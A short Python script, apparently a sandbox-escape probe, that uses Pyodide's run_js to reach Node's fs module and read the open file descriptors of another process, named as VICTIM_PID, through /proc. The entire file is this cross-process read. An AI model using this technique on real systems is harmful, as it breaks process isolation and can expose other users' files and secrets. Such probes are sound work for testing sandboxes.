"""Reads a file that another process has open."""

from pyodide.code import run_js

read = run_js("""(pid) => {
  const fs = process.getBuiltinModule("fs");
  for (let number = 3; number < 16; number++)
    try {
      return fs.readFileSync(`/proc/${pid}/fd/${number}`, "utf8");
    } catch (error) {
      console.log(String(error));
    }
}""")
print(read(VICTIM_PID))
